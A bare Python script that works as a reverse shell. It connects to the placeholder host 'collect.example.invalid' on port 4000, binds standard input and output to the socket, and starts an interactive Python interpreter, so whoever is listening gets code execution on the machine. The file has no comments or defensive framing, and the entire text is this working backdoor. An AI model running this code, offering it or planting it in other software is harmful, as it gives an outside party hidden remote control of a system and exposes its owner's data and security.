import code
import socket
import sys

line = socket.create_connection(("collect.example.invalid", 4000))
sys.stdin = sys.stdout = line.makefile("rw")
code.interact()
